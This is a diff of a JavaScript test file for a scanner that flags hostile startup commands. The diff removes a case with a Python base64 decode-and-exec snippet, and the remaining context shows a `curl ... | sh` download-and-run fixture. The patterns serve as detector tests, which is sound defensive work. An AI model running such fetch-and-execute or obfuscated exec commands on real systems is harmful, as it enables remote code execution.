@@ -94,11 +94,6 @@ describe('download-and-run finds at start', () => {
     expect(find(text)[0]).toMatchObject({ rule: 'start/download-and-run', severity: 'high' });
   });
 
-  it('a program that python decodes and runs', () => {
-    const text = `#!/usr/bin/python3\nimport base64\nexec(base64.b64decode('${base64('import os; os.listdir("/")')}'))\n`;
-    expect(find(text)[0]).toMatchObject({ rule: 'start/decode-and-run', severity: 'high' });
-  });
-
   it('cron, units, login shells and the configuration', () => {
     const command = `curl -s ${URL} | sh`;
     const { findings } = judge([downloadAndRun], {
